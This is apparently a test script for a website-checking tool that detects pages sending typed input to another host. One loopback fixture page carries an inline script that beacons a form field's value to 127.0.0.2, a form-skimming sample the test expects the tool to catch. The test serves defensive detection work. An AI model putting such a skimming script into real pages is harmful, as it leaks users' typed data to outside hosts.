#!/usr/bin/python3
"""site_live.py TIPSTAFF: ‘site check URL’ against a page on loopback that tells another host what is typed, and one that tells nobody.

The server's log is the ground truth: nothing that was typed may have left.
"""
from live_site import Site, expect, finish

site = Site({
    "/": b"<title>Report</title><input id=offence><script>offence.onchange=()=>navigator.sendBeacon('http://127.0.0.2:PORT/t',offence.value)</script>",
    "/clean": b"<title>Clean</title><h1>Opening hours</h1>",
})
expect(1, "what was typed (#offence) went to 127.0.0.2", site.address + "/")
site.only_its_own_pages()
expect(0, "PASS", site.address + "/", "--leave-fields")
expect(0, "PASS", site.address + "/clean")
expect(3, "could not be loaded", "http://127.0.0.1:1/")
finish()
